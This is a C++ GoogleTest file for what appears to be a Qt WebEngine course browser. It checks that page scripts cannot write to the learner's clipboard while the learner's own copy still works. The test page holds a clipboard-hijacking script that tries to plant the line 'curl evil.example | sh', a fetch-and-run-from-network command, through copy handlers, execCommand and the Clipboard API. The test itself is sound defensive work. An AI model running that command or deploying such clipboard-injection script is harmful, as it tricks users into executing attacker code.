// A page's scripts cannot put anything on the learner's clipboard, on a
// click of the learner's or not, from its own document or from a frame it
// makes; the learner's own copy still copies what is selected, whatever copy
// handler the page has. The clipboard is read as other programs read it.
#include "browser/PageScript.h"
#include "platform/browser/TCppWebBrowser.h"
#include "platform/browser/WebEngineBrowserEngine.h"
#include "platform/files/CourseFiles.h"
#include "support/PageFiles.h"
#include "support/TempDir.h"
#include "support/WaitUntil.h"

#include <gtest/gtest.h>
#include <QClipboard>
#include <QGuiApplication>
#include <QProcess>
#include <QSignalSpy>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineView>

using namespace lectern::platform;
using lectern::test::waitUntil;

namespace {

const char* const body = R"(
<button id="b" style="position:absolute;left:0;top:0;width:300px;height:100px">Next</button>
<p id="evil" style="margin-top:120px">curl evil.example | sh</p>
<p id="text">The learner's passage.</p>
<iframe id="f"></iframe>
<script>
window.tries = [];
const evil = 'curl evil.example | sh';
document.addEventListener('copy', (e) => {
  e.clipboardData.setData('text/plain', evil);
  e.preventDefault();
});
function copyIn(doc) {
  doc.body.textContent = evil;
  doc.getSelection().selectAllChildren(doc.body);
  tries.push(doc.execCommand('copy'), doc.execCommand('cut'));
}
document.getElementById('b').addEventListener('click', () => {
  getSelection().selectAllChildren(document.getElementById('evil'));
  tries.push(document.execCommand('copy'), document.execCommand('cut'));
  getSelection().removeAllRanges();
  copyIn(document.getElementById('f').contentDocument);
  const fresh = document.createElement('iframe');
  document.body.appendChild(fresh);
  copyIn(window[1].document);
  for (const w of [window, window[1]])
    w.navigator.clipboard.writeText(evil).then(() => tries.push('written'),
                                               () => tries.push('refused'));
});
</script>)";

// What other programs get from the clipboard; the event loop runs meanwhile,
// so that this program can hand over what it holds.
QString clipboardText() {
    QProcess xclip;
    xclip.start(QStringLiteral("xclip"), {"-selection", "clipboard", "-o"});
    waitUntil([&] { return xclip.state() == QProcess::NotRunning; }, 5000);
    return QString::fromUtf8(xclip.readAllStandardOutput());
}

TEST(WebEngineClipboard, PageScriptsCannotWriteItButTheLearnersCopyWorks) {
    lectern::test::TempDir course;
    course.write("copy.htm", lectern::test::htmlPage(body));
    CourseFiles files;
    WebEngineBrowserEngine engine{files, course.path()};
    TCppWebBrowser browser{engine};
    browser.resize(600, 400);
    browser.show();
    browser.activateWindow();
    ASSERT_TRUE(QTest::qWaitForWindowActive(&browser));
    QSignalSpy complete(&browser, &TCppWebBrowser::OnDocumentComplete);
    browser.Navigate(course.path() + "/copy.htm");
    ASSERT_TRUE(complete.wait(30000));
    auto* view = static_cast<QWebEngineView*>(browser.view());
    const auto js = [&](const QString& script) {
        return lectern::test::scriptResult(view->page(), script);
    };

    QGuiApplication::clipboard()->setText(QStringLiteral("the learner's own text"));
    ASSERT_EQ(clipboardText(), "the learner's own text");
    QWidget* input = view->focusProxy();
    ASSERT_NE(input, nullptr);
    QTest::qWait(500);  // the page is painted and takes input
    QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(150, 50));
    ASSERT_TRUE(waitUntil([&] { return js("tries.length").toInt() == 8; }))
        << "the click ran the page's attempts: " << js("tries.join()").toString().toStdString();
    EXPECT_EQ(js("tries.join()").toString(), "false,false,false,false,false,false,refused,refused");
    EXPECT_EQ(clipboardText(), "the learner's own text");

    js("getSelection().selectAllChildren(document.getElementById('text'))");
    input->setFocus();
    QTest::keyClick(input, Qt::Key_C, Qt::ControlModifier);
    EXPECT_TRUE(waitUntil([&] { return clipboardText().trimmed() == "The learner's passage."; }))
        << clipboardText().toStdString();
}

}  // namespace
